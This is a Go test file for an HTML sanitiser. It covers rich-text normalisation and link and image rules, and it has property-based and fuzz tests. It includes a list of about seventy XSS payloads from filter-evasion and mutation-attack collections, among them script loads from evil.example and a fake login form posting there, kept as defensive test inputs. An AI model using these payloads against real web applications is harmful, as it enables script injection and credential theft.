package sanitize

import (
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"postern/shared/richtext"
)

const rel = ` rel="noopener nofollow" target="_blank"`

func TestHTML(t *testing.T) {
	for _, test := range []struct{ name, in, want string }{
		{"text", "Hallo", "<p>Hallo</p>"},
		{"escapes", "a < b &amp; c", "<p>a &lt; b &amp; c</p>"},
		{"paragraphs", "<p>a</p>\n<p>b</p>\n", "<p>a</p><p>b</p>"},
		{"formats", "<p><b>a</b><i>b</i><u>c</u><del>d</del><strong>e</strong><em>f</em></p>", "<p><strong>a</strong><em>b</em><u>c</u><s>d</s><strong>e</strong><em>f</em></p>"},
		{"code", "<pre>a\n  b</pre><p><code>x&lt;y</code></p>", "<pre>a\n  b</pre><p><code>x&lt;y</code></p>"},
		{"headings", "<h1>a</h1><h2>b</h2><h3>c</h3><h5>d</h5>", "<h3>a</h3><h3>b</h3><h3>c</h3><h4>d</h4>"},
		{"lists", "<ul><li>a</li><li><p>b</p></li></ul><ol><li>c<ul><li>d</li></ul></li></ol>", "<ul><li>a</li><li>b</li></ul><ol><li>c<ul><li>d</li></ul></li></ol>"},
		{"list in list, as Word writes it", "<ul><li>a</li><ul><li>b</li></ul></ul>", "<ul><li>a<ul><li>b</li></ul></li></ul>"},
		{"item with two paragraphs", "<ul><li><p>a</p><p>b</p></li></ul>", "<ul><li><p>a</p><p>b</p></li></ul>"},
		{"item outside a list", "<li>a</li><li>b</li>", "<p>a</p><p>b</p>"},
		{"quotation", "<blockquote>a<br>b</blockquote>", "<blockquote><p>a<br/>b</p></blockquote>"},
		{"divs of an editor", "<div>a<br>b<br><br>c</div><div>d</div>", "<p>a<br/>b</p><p>c</p><p>d</p>"},
		{"text between blocks", "a<p>b</p>c<div>d</div>e", "<p>a</p><p>b</p><p>c</p><p>d</p><p>e</p>"},
		{"format around blocks", `<b style="font-weight:normal"><p>a</p><p>b</p></b>`, "<p>a</p><p>b</p>"},
		{"link around blocks", `<a href="https://a.example"><div>a</div><div>b</div></a>`, `<p><a href="https://a.example"` + rel + `>a b </a></p>`},
		{"table", "<table><tr><th>a</th><td>b</td></tr><tr><td>c</td></tr></table>", "<p>a</p><p>b</p><p>c</p>"},
		{"words in spans", `<p>wo<span class="x">rd</span></p>`, "<p>word</p>"},
		{"nothing to see", "<p></p><p><br></p><p>&nbsp;</p><div> </div><ul><li></li></ul><!-- x -->", ""},
		{"style, class and id", `<p style="position:fixed" class="banner" id="x" onclick="y()" data-z="1" lang="de" title="t">a</p>`, "<p>a</p>"},
		{"link", `<p><a href="HTTPS://A.example/?q=1&amp;r=ü" target="_top" rel="opener" ping="/x">a</a></p>`, `<p><a href="https://A.example/?q=1&amp;r=ü"` + rel + `>a</a></p>`},
		{"mail and telephone", `<a href="mailto:a@b.example">a</a> <a href="tel:+49301234">b</a>`, `<p><a href="mailto:a@b.example"` + rel + `>a</a> <a href="tel:+49301234"` + rel + `>b</a></p>`},
		{"links to elsewhere", `<a href="/x">a</a><a href="//b.example">b</a><a href="ftp://c">c</a><a href="https:d">d</a><a href="cid:abcdefgh">e</a><a name="f">f</a>`, "<p>abcdef</p>"},
		{"picture", `<img src="cid:0123456789abcdef" alt="A &quot;plan&quot;" width="9999" srcset="x" onerror="y()">`, `<p><img src="cid:0123456789abcdef" alt="A &#34;plan&#34;"/></p>`},
		{"other pictures", `<p>x<img src="https://a.example/pixel.gif"><img src="cid:short"><img src="cid:ABCDEFGHIJ"><img alt="y"><img src="data:image/png;base64,AAAA"></p>`, "<p>x</p>"},
		{"not closed", "<blockquote><p>a<strong>b", "<blockquote><p>a<strong>b</strong></p></blockquote>"},
		{"closed too often", "</div></main></p></ul>a</body></html>", "<p>a</p>"},
		{"not UTF-8", "a\xffb", "<p>a\uFFFDb</p>"},
		{"Umlaute & emoji", "<p>Größe 👩‍💻</p>", "<p>Größe 👩‍💻</p>"},
	} {
		t.Run(test.name, func(t *testing.T) {
			if got := HTML(test.in); got != test.want {
				t.Errorf("%s\n got %s\nwant %s", test.in, got, test.want)
			}
			if got := HTML(test.want); got != test.want {
				t.Errorf("not canonical: %s becomes %s", test.want, got)
			}
		})
	}
}

// What the OWASP filter evasion cheat sheet and later mutation attacks try.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<SCRIPT>alert(1);//\<</SCRIPT>`,
	`<IMG SRC="javascript:alert(1);">`,
	`<IMG """><SCRIPT>alert(1)</SCRIPT>"\>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="cid:abcdefgh" onload=alert(1)//`,
	`<img src="cid:abcdefgh&#10;" onerror="alert(1)">`,
	`<img/src="cid:abcdefgh"/onerror=alert(1)>`,
	"<img src=`cid:abcdefgh` onerror=alert(1)>",
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java&#x0A;script:alert(1)\">x</a>",
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="https://a.example" onmouseover="alert(1)">x</a>`,
	`<a href="https://a.example" href="javascript:alert(1)">x</a>`,
	`<a href='https://a.example"onmouseover="alert(1)'>x</a>`,
	`<a href="https:javascript:alert(1)">x</a>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<textarea><img src=x onerror=alert(1)></textarea>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="//evil.example/x.swf">`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel="stylesheet" href="https://evil.example/x.css">`,
	`<style>@import'https://evil.example/x.css';</style>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror="alert(1)"></video>`,
	`<input autofocus onfocus=alert(1)>`,
	`<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<p onclick="alert(1)" ONMOUSEOVER='alert(1)' onfocus=alert(1)>x</p>`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`</p></div></main><script>alert(1)</script>`,
	"<p\x00onclick=alert(1)>x",
	`<img src="cid:abcdefgh" alt="--></style></script><script>alert(1)</script>">`,
	`<pre>` + "\n\n" + `<script>alert(1)</script></pre>`,
	`<blockquote cite="javascript:alert(1)">x</blockquote>`,
	`<ul><li value="1" type="javascript:alert(1)">x</ul>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	strings.Repeat("<div>", 600) + `<script>alert(1)</script>`,
	strings.Repeat("<a href=https://a.example><b>", 300) + `x`,
	strings.Repeat("<b><p>", 200) + `<img src=x onerror=alert(1)>`,
}

var (
	allowed = map[string][]string{
		"p": nil, "br": nil, "strong": nil, "em": nil, "u": nil, "s": nil, "ul": nil, "ol": nil, "li": nil,
		"blockquote": nil, "pre": nil, "code": nil, "h3": nil, "h4": nil,
		"a": {"href", "rel", "target"}, "img": {"src", "alt"},
	}
	safeHref = regexp.MustCompile(`^(https?://[^/]|mailto:|tel:)`)
	safeSrc  = regexp.MustCompile(`^cid:[a-z0-9]{8,32}$`)
)

// check fails unless clean is what may be put into a page: read by a tokenizer,
// which knows nothing of the sanitiser's tree.
func check(t interface {
	Helper()
	Fatalf(string, ...any)
}, source, clean string) {
	t.Helper()
	var open []string
	tokens := html.NewTokenizer(strings.NewReader(clean))
	for {
		kind := tokens.Next()
		if kind == html.ErrorToken {
			break
		}
		token := tokens.Token()
		switch kind {
		case html.TextToken:
			continue
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != token.Data {
				t.Fatalf("%q: </%s> closes %v: %q", source, token.Data, open, clean)
			}
			open = open[:len(open)-1]
			continue
		case html.StartTagToken:
			open = append(open, token.Data)
		case html.SelfClosingTagToken:
		default:
			t.Fatalf("%q: %s in %q", source, token, clean)
		}
		attributes, ok := allowed[token.Data]
		if !ok {
			t.Fatalf("%q: element %s in %q", source, token.Data, clean)
		}
		seen := make(map[string]string)
		for _, a := range token.Attr {
			if !contains(attributes, a.Key) {
				t.Fatalf("%q: attribute %s in %q", source, a.Key, clean)
			}
			seen[a.Key] = a.Val
		}
		if token.Data == "a" && (!safeHref.MatchString(seen["href"]) || seen["rel"] != richtext.LinkRel || seen["target"] != richtext.LinkTarget || len(token.Attr) != 3) {
			t.Fatalf("%q: link %s", source, token)
		}
		if token.Data == "img" && !safeSrc.MatchString(seen["src"]) {
			t.Fatalf("%q: picture %s", source, token)
		}
	}
	if len(open) > 0 {
		t.Fatalf("%q: %v stay open in %q", source, open, clean)
	}
	if again := HTML(clean); again != clean {
		t.Fatalf("%q: not canonical:\n%q\nbecomes\n%q", source, clean, again)
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func TestAttacks(t *testing.T) {
	for _, attack := range attacks {
		check(t, attack, HTML(attack))
		check(t, attack, HTML("<p>before "+attack+" after</p>"))
		check(t, attack, HTML(`<img alt="`+attack+`" src="cid:abcdefgh">`))
		check(t, attack, HTML(`<a href="https://a.example/`+attack+`">x</a>`))
	}
}

// The words survive where the form does not.
func TestTooDeep(t *testing.T) {
	got := HTML(strings.Repeat("<div>", 600) + "<p>Wort &amp; <script>alert(1)</script>Tat</p>")
	if got != "<p>Wort &amp; Tat</p>" {
		t.Errorf("%s", got)
	}
}

// Any mixture of tags, closed or not, ends in a safe and canonical form.
func TestMixtures(t *testing.T) {
	piece := rapid.OneOf(
		rapid.SampledFrom([]string{
			"<p>", "</p>", "<div>", "</div>", "<br>", "<ul>", "</ul>", "<ol>", "<li>", "</li>", "<blockquote>", "</blockquote>",
			"<pre>", "</pre>", "<code>", "</code>", "<b>", "</b>", "<i>", "</i>", "<u>", "<s>", "</s>", "<h1>", "</h1>", "<h4>",
			"<table>", "<tr>", "<td>", "</td>", "</table>", "<span>", "</span>", "<form>", "<select>", "<option>", "<svg>", "</svg>",
			"<math>", "<style>", "</style>", "<script>", "</script>", "<textarea>", "</textarea>", "<noscript>", "<template>", "<!--", "-->",
			`<a href="https://a.example/x y">`, `<a href="mailto:a@b.example?subject=ü">`, `<a>`, "</a>", `<img src="cid:abcdefgh">`, `<img alt="x">`,
			"\n", " ", "&nbsp;", "&lt;", "&#0;", "\x00", "\r", "x", "word ", "ü", `"`, "'", "<", ">", "=",
		}),
		rapid.SampledFrom(attacks[:len(attacks)-3]),
		rapid.String(),
	)
	rapid.Check(t, func(t *rapid.T) {
		source := strings.Join(rapid.SliceOfN(piece, 0, 30).Draw(t, "pieces"), "")
		check(t, source, HTML(source))
	})
}

// What richtext makes of plain text is canonical already.
func TestFromTextIsCanonical(t *testing.T) {
	line := rapid.OneOf(rapid.String(), rapid.SampledFrom([]string{
		"", "Hallo", "see https://a.example/x?y=1&z=<2>.", "(http://a.example/ü_(1))", "mailto:a@b.example", "<b>", "HTTPS://A.example:99999/%zz", "https://a.example/\"onclick=x",
	}))
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(line, 0, 8).Draw(t, "lines"), "\n")
		check(t, text, richtext.FromText(text))
	})
}

func FuzzHTML(f *testing.F) {
	for _, attack := range attacks[:len(attacks)-3] {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, source string) { check(t, source, HTML(source)) })
}

func BenchmarkHTML(b *testing.B) {
	source := strings.Repeat(`<div>A line with <b>bold</b> and <a href="https://a.example">a link</a>.<br>And another.</div>`, 20)
	b.ReportAllocs()
	for b.Loop() {
		HTML(source)
	}
}
